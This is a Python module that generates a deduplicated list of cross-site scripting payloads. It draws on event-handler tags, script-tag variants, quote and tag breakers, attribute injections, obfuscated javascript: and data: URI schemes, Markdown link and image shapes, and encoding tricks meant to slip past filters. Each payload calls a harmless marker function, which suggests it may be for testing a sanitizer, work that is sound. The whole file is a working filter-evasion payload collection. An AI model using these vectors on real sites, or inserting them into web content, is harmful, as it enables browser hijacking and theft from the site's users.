"""What runs in a browser where a page lets it: made here, of places where text ends up, of what runs there, and of ways
to write it so that a filter does not know it. Each calls `liep()`.
"""

import itertools

CALL = "liep(1)"
HANDLERS = [
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<video poster=x onloadstart={}><source></video>",
    "<marquee onstart={}>x</marquee>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<object data=x onerror={}>",
    "<iframe onload={}></iframe>",
    "<link rel=stylesheet href=x onerror={}>",
    "<style onload={}></style>",
    "<p style=animation-name:x onanimationstart={}>x</p>",
    "<button onfocus={} autofocus>x",
    "<div contenteditable autofocus onfocus={}>x</div>",
    "<a href=# onmouseover={}>x</a>",
    "<math><mi onclick={}>x</mi></math>",
]
SCRIPTS = [
    "<script>{}</script>",
    "<script >{}</script >",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script>",
    "<scr<script>ipt>{}</script>",
    "<svg><script>{}</script></svg>",
    "<math><script>{}</script></math>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<template><script>{}</script></template>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<script src='data:text/javascript,{}'></script>",
    "<style>@import 'data:text/css,x'</style><script>{}</script>",
    "<!--><script>{}</script-->",
    "<![CDATA[><script>{}</script>]]>",
    "<?x><script>{}</script>",
]
# What ends the place where a text stands, before what runs.
BREAKS = [
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</style>",
    "--></script>",
    "</option></select>",
    "`>",
    '\\">',
    "]]>",
]
ATTRIBUTES = [
    '" onmouseover={0} x="',
    "' onfocus={0} autofocus x='",
    '" autofocus onfocus={0} "',
    '" style="x" onclick=\'{0}',
    "x onpointerenter={0} ",
]
SCHEMES = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "javascript&#58{}",
    "javascript&#058{}",
    "javascript&#x3a;{}",
    "&#106;avascript:{}",
    "javascript%3A{}",
    "java\u200bscript:{}",
    "javascript：{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5saWVwKDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={}>",
    "blob:{}",
    "feed:javascript:{}",
    "//javascript:{}",
    "javascript://x%0a{}",
    "jar:javascript:{}",
    "file:///{}",
    "view-source:javascript:{}",
]
SHAPES = [
    "[klik]({})",
    "[klik](<{}>)",
    '[klik]({} "titel")',
    "![beeld]({})",
    "<{}>",
    "[klik][a]\n\n[a]: {}",
    "[klik]\n\n[klik]: <{}>",
    "[![beeld](x)]({})",
    "<a href='{}'>klik</a>",
    '<form action="{}"><button>x</button></form>',
    "<iframe src='{}'></iframe>",
    "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>",
    "<object data='{}'></object>",
    "<base href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<button formaction='{}'>x</button>",
    "| a |\n|---|\n| [klik]({}) |",
]
# Where two kinds of text meet: Markdown in markup in Markdown, and the marks of this site.
MIXED = [
    '[a](x" onerror={0} ")',
    '![a](x" onerror="{0})',
    "![{1}](x)",
    "[{1}](/x)",
    "[[{1}]]",
    "{{{{bron:{1}}}}}",
    '{{{{feit:">{1}}}}}',
    "`{1}`",
    "```\n{1}\n```",
    "```html {1}\nx\n```",
    "> {1}",
    "- {1}",
    "| {1} |\n|---|\n| {1} |",
    "<x![](`<a\n>`)>{1}![](`<a\n>`)",
    "[<svg/onload={0}//]()",
    "<p\n{1}",
    "\\<script>{0}\\</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "＜script＞{0}＜/script＞",
    "<\x00script>{0}</script>",
    "\ue000{1}\ue001",
    "[a]: x '{1}'\n\n[a]",
    "# {1}",
    "<!-- {1} -->",
    "[{1}]: /x",
    "**{1}**",
    "~~{1}~~",
    "{{{{ {0} }}}}",
]


def all_of_them() -> list[str]:
    """Each once, in an order that does not change."""
    image = HANDLERS[0].format(CALL)
    found = [broken + vector.format(CALL) for broken, vector in itertools.product(BREAKS[:1], HANDLERS + SCRIPTS)]
    found += [
        broken + vector.format(CALL)
        for broken, vector in itertools.product(BREAKS[1:], (HANDLERS[0], HANDLERS[2], SCRIPTS[0]))
    ]
    found += [place.format(CALL) for place in ATTRIBUTES]
    found += [shape.format(scheme.format(CALL)) for scheme, shape in itertools.product(SCHEMES, SHAPES)]
    found += [mixed.format(CALL, image) for mixed in MIXED]
    return list(dict.fromkeys(found))
